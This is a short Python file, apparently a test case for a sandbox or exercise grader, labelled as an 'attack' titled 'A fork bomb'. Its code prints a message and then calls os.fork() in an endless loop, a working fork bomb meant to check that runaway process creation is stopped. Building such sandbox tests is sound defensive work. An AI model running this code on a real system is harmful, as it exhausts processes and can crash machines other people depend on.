# /// attack
# title = "A fork bomb"
# says = ["processes and threads", "No exercise needs more than one"]
# [tier.process]
# says = []
# ///

# %%
import os

print("TRIED to fork without end")
while True:
    os.fork()
